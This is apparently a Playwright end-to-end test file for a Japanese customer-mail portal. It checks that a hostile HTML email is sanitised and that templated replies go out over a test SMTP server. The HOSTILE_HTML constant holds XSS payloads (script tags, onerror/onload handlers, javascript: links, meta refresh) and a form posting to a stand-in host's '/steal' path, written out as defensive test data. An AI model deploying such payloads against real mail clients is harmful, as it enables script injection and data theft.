"""End-to-end in Debian's Chromium: a hostile HTML mail in its thread, and a templated reply through real SMTP."""
import base64
import re
from email import message_from_bytes
from email.policy import default as default_policy
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect
from sqlalchemy import select

from portal.extensions import db
from portal.mailtemplates.services import TemplateData, create_template
from portal.models import Direction, MailMessage, Role
from portal.users.services import add_member
from tests.e2e.browser import assert_only_portal, chromium_page, keep_screenshot, log_in, watch
from tests.factories import PASSWORD, enable_email, make_account, make_customer, make_message
from tests.integration.mailbox import CUSTOMER, Mailbox, mail

pytestmark = pytest.mark.browser

REMOTE = "https://remote.example"
TRACKER = f"{REMOTE}/track.gif"
HOSTILE_SUBJECT = "新サービスのご案内"
LEGITIMATE = "本文はこちらです"
HOSTILE_HTML = f"""\
<meta http-equiv="refresh" content="0;url={REMOTE}/">
<base href="{REMOTE}/">
<link rel=stylesheet href="{REMOTE}/x.css">
<style>body{{background:url({REMOTE}/css.png)}}</style>
<script>window.parent.document.title='pwned';alert(1)</script>
<p>{LEGITIMATE}</p>
<img src=x onerror="alert(2)">
<a href="javascript:alert(3)">リンク</a>
<img src="{TRACKER}">
<div style="background:url({REMOTE}/bg.png)">背景</div>
<form action="{REMOTE}/steal"><input name=p><button>送信</button></form>
<svg onload="alert(4)"><script>alert(5)</script></svg>
<iframe src="{REMOTE}/frame"></iframe>
<object data="{REMOTE}/x.swf"></object>
<video poster="{REMOTE}/p.png"></video>
<img srcset="{REMOTE}/1.png 1x">
"""
# A 1x1 transparent GIF: what the remote "server" answers, so no request ever leaves the machine.
PIXEL = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")

CUSTOMER_NAME = "山田 太郎"
COMPANY = "株式会社ヤマダ商事"
MEMBER_NAME = "鈴木 一郎"
MEMBER_EMAIL = "suzuki@ourco.example"
RECEIVED_SUBJECT = "お見積りのお願い"
TEMPLATE_NAME = "お礼"
TEMPLATE_SUBJECT = "{{会社名}}様 お打ち合わせのお礼"
TEMPLATE_BODY = "{{顧客名}}様\n\n本日はありがとうございました。\n{{担当者名}}"
# In a reply the thread keeps its 「Re: 件名」; the template's own subject is for new mail.
REPLY_SUBJECT = f"Re: {RECEIVED_SUBJECT}"
FILLED_BODY = f"{CUSTOMER_NAME}様\n\n本日はありがとうございました。\n{MEMBER_NAME}"
# Sending connects to aiosmtpd and then files a copy in Dovecot's Sent; allow more than expect's default.
SEND_TIMEOUT_MS = 30_000


def keep_off_the_internet(page, base_url: str) -> list:
    """Abort any request not meant for the portal (registered first, so later routes take precedence); returns them."""
    portal_host = urlsplit(base_url).netloc
    aborted = []

    def abort(route):
        aborted.append(route.request.url)
        route.abort()

    page.route(lambda url: urlsplit(url).netloc != portal_host, abort)
    return aborted


def record_dialogs(page) -> list:
    """Dismiss and record every alert/confirm/prompt the page or its frames open."""
    dialogs = []

    def dismiss(dialog):
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    return dialogs


def foreign(requests: list, base_url: str) -> list:
    """The recorded request URLs that did not go to the portal."""
    portal_host = urlsplit(base_url).netloc
    return [url for url in requests if urlsplit(url).netloc != portal_host]


def seed_hostile_mail(app) -> tuple[str, int]:
    """An account with メール on and a customer's HTML mail full of attacks; returns (login email, message id)."""
    with app.app_context():
        account, owner = make_account()
        enable_email(account, owner)
        customer = make_customer(account, name="佐藤 花子", email="sato@client.example", company="株式会社サトウ")
        message = make_message(account, [customer], member=owner, subject=HOSTILE_SUBJECT, text=None,
                               html=HOSTILE_HTML)
        email, message_id = owner.user.email, message.id
        db.session.remove()
    return email, message_id


def test_hostile_html_mail_runs_nothing_and_fetches_nothing(live_server, tmp_path):
    """Scripts, handlers, refresh, forms and remote fetches all do nothing; 「画像を表示」 loads only the real <img>."""
    app, base_url = live_server
    login_email, message_id = seed_hostile_mail(app)
    thread_url = f"{base_url}/mails/{message_id}"
    with chromium_page() as page:
        requests, errors = watch(page)
        dialogs = record_dialogs(page)
        popups = []
        page.on("popup", lambda popup: popups.append(popup.url))
        aborted = keep_off_the_internet(page, base_url)
        remote_calls = []

        def answer_remote(route):
            remote_calls.append(route.request.url)
            route.fulfill(status=200, content_type="image/gif", body=PIXEL)

        page.route(f"{REMOTE}/**", answer_remote)

        log_in(page, base_url, login_email, PASSWORD)
        page.goto(thread_url)
        expect(page.locator("h1")).to_have_text(HOSTILE_SUBJECT)
        frame = page.frame_locator("iframe.mail-frame")
        expect(frame.get_by_text(LEGITIMATE)).to_be_visible()
        expect(frame.get_by_text("背景", exact=True)).to_be_visible()
        # The form and its 「送信」 button, the frames, plugins and styles are gone from the mail, not merely inert.
        expect(frame.locator("body").locator(
            "form, input, button, iframe, object, embed, video, svg, script, style, link, meta, base")).to_have_count(0)
        expect(frame.locator("[href^=javascript], [onerror], [onload], [srcset], [style*=url]")).to_have_count(0)
        expect(page.get_by_role("status")).to_contain_text("外部の画像（1件）は、プライバシー保護のため表示していません。")
        # The javascript: link has lost its href: clicking it opens nothing and runs nothing.
        frame.get_by_text("リンク", exact=True).click()
        page.wait_for_timeout(1_500)  # long enough for a 0-second meta refresh or an onerror to have fired

        assert urlsplit(page.url).path == f"/mails/{message_id}", page.url
        assert [f.url for f in page.frames[1:]] == ["about:srcdoc"]  # the frame did not navigate either
        assert page.title() == f"{HOSTILE_SUBJECT} | メール連携ポータル"
        assert dialogs == [] and popups == []
        # Nothing was even attempted: no CSP report means the sanitiser removed it all before the browser saw it.
        assert foreign(requests, base_url) == [] and not errors, (foreign(requests, base_url), errors)
        assert remote_calls == [] and aborted == []
        assert_only_portal(requests, errors, base_url)
        keep_screenshot(page, tmp_path / "thread-images-blocked.png")

        page.get_by_role("link", name="画像を表示").click()
        expect(page).to_have_url(f"{thread_url}?images=1")
        tracker = frame.locator(f'img[src="{TRACKER}"]')
        expect(tracker).to_be_visible()
        expect(tracker).to_have_js_property("naturalWidth", 1)  # the (routed) image really loaded
        expect(page.get_by_role("status")).to_have_count(0)
        page.wait_for_timeout(1_500)

        assert remote_calls == [TRACKER], remote_calls
        assert foreign(requests, base_url) == [TRACKER]
        assert aborted == [] and dialogs == [] and popups == []
        assert page.title() == f"{HOSTILE_SUBJECT} | メール連携ポータル"
        assert not errors, errors
        keep_screenshot(page, tmp_path / "thread-images-shown.png")


@pytest.fixture
def mail_portal(live_server_with, pki, dovecot, smtp_ssl):
    """A portal that trusts the test CA, allows the test servers' ports and tracks under a public address."""
    return live_server_with(MAIL_CA_FILE=str(pki.ca_file), MAIL_EXTRA_PORTS=[dovecot.imaps_port, smtp_ssl.port],
                            PUBLIC_BASE_URL="https://portal.example.jp", MAIL_TIMEOUT_SECONDS=5)


def seed_linked_member_with_mail(app, dovecot, pki, mail_user, smtp_ssl) -> None:
    """A member whose real mailbox is linked, a customer's mail imported from Dovecot, and the shared 「お礼」."""
    with app.app_context():
        account, owner = make_account()
        enable_email(account, owner)
        make_customer(account, name=CUSTOMER_NAME, email=CUSTOMER, company=COMPANY)
        member, _ = add_member(db.session, account, owner, MEMBER_EMAIL, MEMBER_NAME, Role.USER, PASSWORD)
        create_template(db.session, owner, TemplateData(name=TEMPLATE_NAME, subject=TEMPLATE_SUBJECT,
                                                        body=TEMPLATE_BODY, shared=True))
        mailbox = Mailbox(dovecot, pki, mail_user, member, smtp_ssl)
        mailbox.deliver(mail(f'"{CUSTOMER_NAME}" <{CUSTOMER}>', mail_user.email, subject=RECEIVED_SUBJECT,
                             body="見積書をお送りください。\nよろしくお願いいたします。"))
        assert mailbox.sync().imported == 1
        assert db.session.scalar(select(MailMessage.subject).where(MailMessage.direction == Direction.RECEIVED)) \
            == RECEIVED_SUBJECT
        db.session.remove()


def test_reply_with_template_and_see_it_in_the_thread(mail_portal, dovecot, pki, mail_user, smtp_ssl, tmp_path):
    """送受信メール → 返信 → 「お礼」を挿入 (filled) → 送信: the flash, the reply in the thread, one real SMTP delivery."""
    app, base_url = mail_portal
    seed_linked_member_with_mail(app, dovecot, pki, mail_user, smtp_ssl)
    with chromium_page() as page:
        requests, errors = watch(page)
        dialogs = record_dialogs(page)
        aborted = keep_off_the_internet(page, base_url)

        log_in(page, base_url, MEMBER_EMAIL, PASSWORD)
        page.get_by_role("navigation").get_by_text("送受信メール", exact=True).click()
        expect(page.locator("h1")).to_have_text("送受信メール")
        page.get_by_role("link", name=RECEIVED_SUBJECT, exact=True).click()
        expect(page.locator("h1")).to_have_text(RECEIVED_SUBJECT)
        expect(page.locator(".mail-text")).to_contain_text("見積書をお送りください。")

        page.get_by_role("link", name="返信", exact=True).click()
        expect(page.locator("h1")).to_have_text("返信")
        expect(page.locator("main")).to_contain_text(f"差出人: {MEMBER_NAME} <{mail_user.email}>")
        expect(page.locator("#to")).to_have_value(CUSTOMER)
        expect(page.locator("#subject")).to_have_value(f"Re: {RECEIVED_SUBJECT}")

        page.locator("#template_id").select_option(label=TEMPLATE_NAME)
        page.get_by_role("button", name="テンプレートを挿入").click()
        expect(page.get_by_role("alert")).to_contain_text(f"テンプレート「{TEMPLATE_NAME}」を挿入しました。")
        expect(page.locator("#subject")).to_have_value(REPLY_SUBJECT)
        expect(page.locator("#to")).to_have_value(CUSTOMER)
        body = page.locator("#body").input_value()
        # The filled template above the quote, which is still there, untouched.
        assert body.startswith(FILLED_BODY + "\n\n"), body
        assert f"に {CUSTOMER_NAME} <{CUSTOMER}>:\n> 見積書をお送りください。\n> よろしくお願いいたします。" in body, body
        assert "{{" not in body
        keep_screenshot(page, tmp_path / "reply-template.png")

        # A double click, as impatient people do: the mail still goes out once.
        page.get_by_role("button", name="送信", exact=True).dblclick()
        expect(page.get_by_role("alert")).to_contain_text("返信を送信しました。", timeout=SEND_TIMEOUT_MS)
        expect(page).to_have_url(re.compile(r"/mails/\d+#message-\d+$"))
        # The thread keeps the conversation's own subject as its heading.
        expect(page.locator("h1")).to_have_text(RECEIVED_SUBJECT)
        expect(page.locator("main")).to_contain_text("このスレッドのメール 2件（古い順）")
        reply_card = page.locator(f"article#{urlsplit(page.url).fragment}")
        expect(reply_card).to_contain_text("ポータルから送信")
        expect(reply_card).to_contain_text(MEMBER_NAME)
        expect(reply_card.locator(".mail-text")).to_contain_text(FILLED_BODY)
        expect(page.locator("article.mail-card").first.locator(".mail-text")).to_contain_text("見積書をお送りください。")
        keep_screenshot(page, tmp_path / "thread-after-reply.png")

    [delivered] = smtp_ssl.messages
    assert delivered.rcpt_tos == [CUSTOMER] and delivered.mail_from == mail_user.email
    sent = message_from_bytes(delivered.data, policy=default_policy)
    assert str(sent["Subject"]) == REPLY_SUBJECT
    text = sent.get_body(("plain",)).get_content()
    assert f"{CUSTOMER_NAME}様" in text and "本日はありがとうございました。" in text and MEMBER_NAME in text
    assert dialogs == [] and aborted == []
    assert_only_portal(requests, errors, base_url)


def test_new_mail_from_the_customer_page_with_template_cc_and_a_file(mail_portal, dovecot, pki, mail_user, smtp_ssl,
                                                                     tmp_path):
    """顧客 → メールを作成 → 「お礼」を挿入 (subject and body filled) → Cc and a file → 送信: a new thread with the file."""
    app, base_url = mail_portal
    seed_linked_member_with_mail(app, dovecot, pki, mail_user, smtp_ssl)
    partner, subject = "boss@partner.example", f"{COMPANY}様 お打ち合わせのお礼"
    with chromium_page() as page:
        requests, errors = watch(page)
        dialogs = record_dialogs(page)
        aborted = keep_off_the_internet(page, base_url)

        log_in(page, base_url, MEMBER_EMAIL, PASSWORD)
        page.get_by_role("navigation").get_by_text("顧客", exact=True).click()
        page.get_by_role("link", name=CUSTOMER_NAME).first.click()
        expect(page.locator("h1")).to_have_text(CUSTOMER_NAME)
        page.get_by_role("link", name="メールを作成").click()
        expect(page.locator("h1")).to_have_text("メールを作成")
        expect(page.locator("#customer_id option:checked")).to_have_text(f"{CUSTOMER_NAME} <{CUSTOMER}>")
        expect(page.locator("main")).to_contain_text(f"差出人: {MEMBER_NAME} <{mail_user.email}>")

        page.locator("#template_id").select_option(label=TEMPLATE_NAME)
        page.get_by_role("button", name="テンプレートを挿入").click()
        expect(page.get_by_role("alert")).to_contain_text(f"テンプレート「{TEMPLATE_NAME}」を挿入しました。")
        expect(page.locator("#subject")).to_have_value(subject)
        expect(page.locator("#body")).to_have_value(FILLED_BODY)
        page.locator("#cc").fill(partner)
        page.locator("#attachments").set_input_files(files=[
            {"name": "御見積書.pdf", "mimeType": "application/pdf", "buffer": b"%PDF-1.4 quote"}])
        keep_screenshot(page, tmp_path / "new-mail.png")

        page.get_by_role("button", name="送信", exact=True).click()
        expect(page.get_by_role("alert")).to_contain_text("メールを送信しました。", timeout=SEND_TIMEOUT_MS)
        expect(page).to_have_url(re.compile(r"/mails/\d+#message-\d+$"))
        expect(page.locator("h1")).to_have_text(subject)
        expect(page.locator("main")).to_contain_text("このスレッドのメール 1件（古い順）")
        card = page.locator(f"article#{urlsplit(page.url).fragment}")
        expect(card).to_contain_text("ポータルから送信")
        expect(card.get_by_role("link", name=re.compile("御見積書.pdf"))).to_be_visible()
        keep_screenshot(page, tmp_path / "thread-after-new-mail.png")

        page.get_by_role("navigation").get_by_text("顧客", exact=True).click()
        page.get_by_role("link", name=CUSTOMER_NAME).first.click()
        expect(page.locator("#timeline-heading").locator("xpath=../..")).to_contain_text(subject)

    [delivered] = smtp_ssl.messages
    assert delivered.rcpt_tos == [CUSTOMER, partner] and delivered.mail_from == mail_user.email
    sent = message_from_bytes(delivered.data, policy=default_policy)
    assert str(sent["Subject"]) == subject and sent["In-Reply-To"] is None
    assert [part.get_filename() for part in sent.iter_attachments()] == ["御見積書.pdf"]
    assert dialogs == [] and aborted == []
    assert_only_portal(requests, errors, base_url)
